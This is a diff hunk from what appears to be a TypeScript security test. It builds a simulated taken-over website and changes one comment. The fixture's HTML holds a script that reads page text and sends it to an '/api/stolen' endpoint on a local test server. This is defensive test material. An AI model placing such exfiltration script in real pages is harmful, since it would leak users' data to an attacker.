@@ -15,7 +15,7 @@ const hostileDocument = `<!doctype html><title>Hostile</title><p id="found">no s
   fetch('/api/stolen?' + encodeURIComponent(document.getElementById('found').textContent));
 </script>`;
 
-/** A website that this app knows and that somebody else has taken over. */
+/** A website known to the app that an attacker has taken over. */
 async function startHostileWebsite() {
   const asked: string[] = [];
   const server = createServer(({ url = '' }, response) => {
